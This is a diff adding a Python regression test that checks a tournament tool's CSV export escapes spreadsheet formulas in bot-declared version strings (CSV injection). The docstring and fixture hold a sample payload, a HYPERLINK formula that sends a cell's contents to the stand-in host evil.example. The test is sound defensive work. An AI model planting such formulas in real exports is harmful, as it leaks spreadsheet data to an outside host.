@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
 import hashlib
+import io
 import itertools
 import json
 import os
@@ -2299,3 +2301,25 @@ def test_a_tournaments_schedule_is_drawn_in_a_worker_process_never_on_the_daemon
     assert [(t.round, len(t.bots)) for t in created.tables] == [(0, 4), (1, 4), (2, 4)]  # a bye a round
     assert all(set(t.bots) <= set(names) for t in created.tables)
     assert pids and os.getpid() not in pids, pids
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula_a_bot_declared():
+    """An attack pass (2026-12-07): a bot's declared version goes into `tournament show --csv`
+    (and `tournament local --csv FILE`) as it was sent, and a version such as
+    `=HYPERLINK("https://evil.example/?"&A2,"see the log")` became a live formula in the
+    organiser's spreadsheet (CSV injection): the daemon already keeps such text from the
+    organiser's terminal. A text cell that a spreadsheet reads as a formula (=, +, -, @, a
+    tab or carriage return first) is exported with a quote before it; numbers stay numbers."""
+    deals = [stats.Deal(f"s{s}", "m1", bot, points)
+             for s in range(8) for bot, points in (("a", 0), ("b", 5), ("c", 9), ("d", 12))]
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"see the log")'
+    versions = {"a": formula, "b": "+1", "c": "@SUM(1)", "d": "v2"}
+    table = stats.compute(deals, [], {}, seed=7, replicates=200, versions=versions)
+    exported = json.loads(table.to_json())
+    for b in exported["bots"]:
+        b["points_per_deal"] = -0.5 if b["bot"] == "a" else b["points_per_deal"]  # a bonus may make it negative
+    rows = {r["bot"]: r for r in csv.DictReader(io.StringIO(stats.Standings.csv_from_dict(exported)))}
+    assert rows["a"]["version"] == "'" + formula and rows["b"]["version"] == "'+1", rows
+    assert rows["c"]["version"] == "'@SUM(1)" and rows["d"]["version"] == "v2"
+    assert rows["a"]["points_per_deal"] == "-0.5"  # a number, not text
+    assert json.loads(table.to_json())["bots"][0]["version"] in versions.values()  # --json keeps what was sent
